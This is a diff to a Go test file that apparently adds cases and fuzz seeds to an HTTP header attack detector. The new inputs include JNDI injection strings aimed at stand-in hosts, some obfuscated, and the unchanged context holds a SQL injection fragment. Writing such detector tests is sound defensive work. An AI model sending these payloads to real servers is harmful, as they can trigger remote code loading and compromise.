@@ -183,8 +183,11 @@ func TestHeaderWalks(t *testing.T) {
 		{"Authorization": {"Bearer ' or 1=1--"}, "Connection": {"close"}, "Content-Type": {jndi}},
 		{"X-Forwarded-For": {"10.0.0.1", jndi}},
 		{"Accept": {}, "User-Agent": {}},
+		{"Accept": {jndi}},
+		{"Accept-Language": {"en", "${${lower:j}ndi:rmi://x.example/a}"}, "X-Forwarded-For": {"1.2.3.4"}},
+		{"Accept": {"${x}"}, "Accept-Encoding": {"gzip"}},
 	}
-	for _, cfg := range []func(*Config){func(*Config) {}, func(c *Config) { c.Headers = []string{"X-Forwarded-For"} }} {
+	for _, cfg := range []func(*Config){func(*Config) {}, func(c *Config) { c.Headers = []string{"X-Forwarded-For"} }, func(c *Config) { c.Headers = []string{"Accept"} }} {
 		c := DefaultConfig()
 		cfg(&c)
 		d, err := New(c)
@@ -205,6 +208,8 @@ func TestHeaderWalks(t *testing.T) {
 func FuzzHeaderWalks(f *testing.F) {
 	f.Add("X-Forwarded-For", "${jndi:ldap://x/a}", "Accept", "*/*")
 	f.Add("Referer", "' or 1=1--", "User-Agent", "curl")
+	f.Add("Accept", "${${lower:j}ndi:ldap://x/a}", "X-Request-Id", "${jndi:rmi://x/a}")
+	f.Add("Authorization", "Bearer ${x", "Connection", "${")
 	d := newTestDetector(f)
 	d.memo, d.urls, d.cookies, d.cookiePairs = nil, nil, nil, nil
 	skipped := map[string]bool{}
